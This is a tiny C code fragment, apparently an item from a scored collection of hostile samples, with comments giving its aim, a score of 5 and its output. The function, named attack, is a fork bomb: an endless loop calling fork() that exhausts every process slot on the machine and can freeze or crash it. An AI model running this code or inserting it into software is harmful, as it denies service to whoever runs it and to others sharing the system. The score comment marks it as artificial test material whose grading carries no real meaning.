// tries: to take every process that the machine has
// score: 5
// says: printed nothing
static void attack(void)
{
    for (;;)
        fork();
}
